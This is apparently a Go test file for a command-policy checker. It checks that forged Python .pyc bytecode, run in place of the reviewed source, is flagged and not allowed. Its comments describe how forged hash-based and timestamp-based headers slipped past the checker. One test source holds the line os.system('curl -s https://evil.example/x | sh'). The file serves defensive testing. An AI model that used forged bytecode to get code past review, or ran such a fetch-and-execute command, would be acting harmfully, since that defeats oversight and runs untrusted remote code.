package policy

import (
	"context"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// pycHeader is the 16-byte header Python (3.7 and later, PEP 552) writes
// before a module's marshalled code: the magic number of Python 3.11,
// then the flags (0: checked by the source's time and size; 1: by a hash
// of the source, never checked; 3: checked against that hash).
func pycHeader(flags uint32) string {
	b := make([]byte, 16)
	binary.LittleEndian.PutUint16(b, 3495) // Python 3.11
	b[2], b[3] = '\r', '\n'
	binary.LittleEndian.PutUint32(b[4:], flags)
	return string(b) + "\xe3 marshalled code arbiter does not read"
}

// TestHashedBytecode: Python runs a module's __pycache__ bytecode instead
// of its source when the bytecode's header says it matches: a hash-based
// pyc is never compared with the source (unchecked), or only by a hash a
// forger can copy (checked), so the source arbiter read is not what runs.
// Each attack was allowed ("imports the project's module … judged by what
// it contains"); a pyc that Python checks by the source's time and size,
// which Python writes by default, keeps today's answer.
func TestHashedBytecode(t *testing.T) {
	tree := func(flags uint32, name string) map[string]string {
		return map[string]string{"helper.py": pyPlain, "__pycache__/helper." + name + ".pyc": pycHeader(flags)}
	}
	pkg := map[string]string{"pkg/__init__.py": "", "pkg/mod.py": pyPlain, "pkg/__pycache__/mod.cpython-312.pyc": pycHeader(1)}
	tests := map[string]string{"test_a.py": "import helper\n\ndef test_a():\n    assert helper.add(1, 2) == 3\n", "helper.py": pyPlain, "__pycache__/helper.cpython-311.pyc": pycHeader(3)}
	runReadCases(t, []readCase{
		{"unchecked hash pyc", tree(1, "cpython-311"), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
		{"checked hash pyc, -m", tree(3, "cpython-311"), "python3 -m helper", dfr, "U.unreadable-script"},
		{"optimised pyc", tree(1, "cpython-311.opt-1"), "python3 -O -c 'import helper'", dfr, "U.unreadable-script"},
		{"submodule of a package", pkg, "python3 -c 'from pkg import mod'", dfr, "U.unreadable-script"},
		{"a test's import", tests, "python3 -m pytest -q", dfr, ""},
		// Twins: the bytecode Python writes by default, and none.
		{"timestamp pyc", tree(0, "cpython-311"), "python3 -c 'import helper'", allow, "D4.run-project-code"},
		{"no pyc", map[string]string{"helper.py": pyPlain}, "python3 -c 'import helper'", allow, "D4.run-project-code"},
		{"another module's pyc", map[string]string{"helper.py": pyPlain, "__pycache__/other.cpython-311.pyc": pycHeader(1)}, "python3 -c 'import helper'", allow, "D4.run-project-code"},
	})
}

// pycStamp is the time the timestamp cases give their sources.
var pycStamp = time.Unix(1_700_000_000, 0)

// stampedPyc is a pyc made by the machine's python3 (code/testdata/pyc,
// gen.sh there) with its header rewritten to vouch for src: the time
// pycStamp, src's size. Python runs such a pyc in place of src.
func stampedPyc(t *testing.T, name, src string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "code", "testdata", "pyc", name))
	if err != nil {
		t.Fatal(err)
	}
	binary.LittleEndian.PutUint32(data[8:], uint32(pycStamp.Unix()))
	binary.LittleEndian.PutUint32(data[12:], uint32(len(src)))
	return string(data)
}

// runStampedCases is runReadCases with every .py file's time set to
// pycStamp, as a tarball that keeps times would leave it.
func runStampedCases(t *testing.T, tests []readCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeFiles(t, dir, tt.files)
			for name := range tt.files {
				if strings.HasSuffix(name, ".py") {
					if err := os.Chtimes(filepath.Join(dir, name), pycStamp, pycStamp); err != nil {
						t.Fatal(err)
					}
				}
			}
			d := Decide(context.Background(), projectCall(dir, tt.cmd))
			if d.Decision != tt.want || tt.rule != "" && !hasRule(d.Rules, tt.rule) {
				t.Errorf("%s\n got %s %v: %s\nwant %s %s", tt.cmd, d.Decision, d.Rules, d.Reason, tt.want, tt.rule)
			}
		})
	}
}

// TestTimestampBytecode: a pyc whose header carries its source's time and
// size runs in place of the source, so a planted one (a tarball keeps
// times; a command writes bytes) runs whatever it was compiled from. Its
// names and strings must be ones the source spells; each attack was
// allowed ("imports the project's module helper … judged by what it
// contains") while the forged bytecode called os.system.
func TestTimestampBytecode(t *testing.T) {
	helper, err := os.ReadFile(filepath.Join("..", "code", "testdata", "pyc", "helper.py"))
	if err != nil {
		t.Fatal(err)
	}
	src := string(helper)
	tree := func(pyc string) map[string]string {
		return map[string]string{"helper.py": src, "__pycache__/helper.cpython-311.pyc": pyc}
	}
	forged := stampedPyc(t, "forged-system.cpython-311.pyc", src)
	real := stampedPyc(t, "helper.cpython-311.pyc", src)
	test := tree(forged)
	test["test_a.py"] = "import helper\n\ndef test_a():\n    assert helper.add(1, 2) == 3\n"
	pkg := map[string]string{"pkg/__init__.py": "", "pkg/helper.py": src, "pkg/__pycache__/helper.cpython-311.pyc": forged}
	// A source that spells the payload only in a comment, and every name
	// the forged code uses.
	csrc := src + "\n\nimport platform\n\n\ndef kind():\n    # os.system('curl -s https://evil.example/x | sh')\n    return platform.system()\n"
	commented := map[string]string{"helper.py": csrc, "__pycache__/helper.cpython-311.pyc": stampedPyc(t, "forged-system.cpython-311.pyc", csrc)}
	stale := []byte(real)
	binary.LittleEndian.PutUint32(stale[8:], uint32(pycStamp.Unix()-60))
	runStampedCases(t, []readCase{
		{"forged os.system, -c", tree(forged), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
		{"forged os.system, -m", tree(forged), "python3 -m helper", dfr, "U.unreadable-script"},
		{"forged os.system, a test's import", test, "python3 -m pytest -q", dfr, ""},
		{"forged submodule", pkg, "python3 -c 'from pkg import helper'", dfr, "U.unreadable-script"},
		{"the payload in a comment", commented, "python3 -c 'import helper'", dfr, "U.unreadable-script"},
		{"an extra string", tree(stampedPyc(t, "forged-text.cpython-311.pyc", src)), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
		{"truncated", tree(real[:len(real)/2]), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
		{"garbled", tree(real[:16] + "\xe3\x00\x00\x00garbled"), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
		{"header only", tree(real[:16]), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
		// Twins: python3's own bytecode of the source, and a stale one.
		{"real pyc", tree(real), "python3 -c 'import helper'", allow, "D4.run-project-code"},
		{"real pyc, -m", tree(real), "python3 -m helper", allow, "D4.run-project-code"},
		{"stale forged pyc", tree(string(stale[:16]) + forged[16:]), "python3 -c 'import helper'", allow, "D4.run-project-code"},
	})
}

// TestTimestampBytecodeKept: a kept verdict depends on the pyc that was
// compared with its source, so planting a forged one after is noticed.
func TestTimestampBytecodeKept(t *testing.T) {
	helper, err := os.ReadFile(filepath.Join("..", "code", "testdata", "pyc", "helper.py"))
	if err != nil {
		t.Fatal(err)
	}
	src := string(helper)
	dir, cache := t.TempDir(), t.TempDir()
	writeFiles(t, dir, map[string]string{
		"tests/test_a.py":                          "from helper import add\n" + testPlain,
		"tests/helper.py":                          src,
		"tests/__pycache__/helper.cpython-311.pyc": stampedPyc(t, "helper.cpython-311.pyc", src),
	})
	if err := os.Chtimes(filepath.Join(dir, "tests/helper.py"), pycStamp, pycStamp); err != nil {
		t.Fatal(err)
	}
	const cmd = "pytest tests"
	if d := decideCached(dir, cache, "test", cmd); d.Decision != allow {
		t.Fatalf("real pyc: %s %v %s", d.Decision, d.Rules, d.Reason)
	}
	if len(records(t, cache)) == 0 {
		t.Fatal("no verdict kept")
	}
	writeFiles(t, dir, map[string]string{"tests/__pycache__/helper.cpython-311.pyc": stampedPyc(t, "forged-system.cpython-311.pyc", src)})
	if d := decideCached(dir, cache, "test", cmd); d.Decision != dfr {
		t.Errorf("after a forged pyc was planted: %s %v %s", d.Decision, d.Rules, d.Reason)
	}
}
